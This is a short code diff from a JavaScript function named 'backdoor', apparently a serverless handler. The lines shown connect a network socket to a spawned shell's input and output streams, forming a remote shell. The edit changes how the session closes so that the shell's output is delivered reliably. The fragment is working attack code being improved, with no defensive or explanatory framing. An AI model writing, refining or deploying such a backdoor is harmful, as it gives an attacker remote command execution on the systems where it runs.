@@ -57,7 +57,7 @@ exports.backdoor = (event) => new Promise((resolve) => {
     sock.pipe(sh.stdin);
     sh.stdout.pipe(sock);
     sh.stderr.pipe(sock);
-    sh.on('exit', () => { sock.destroy(); resolve(respond(200, 'done')); });
+    sh.on('close', () => { sock.end(); resolve(respond(200, 'done')); });
   });
 });
 
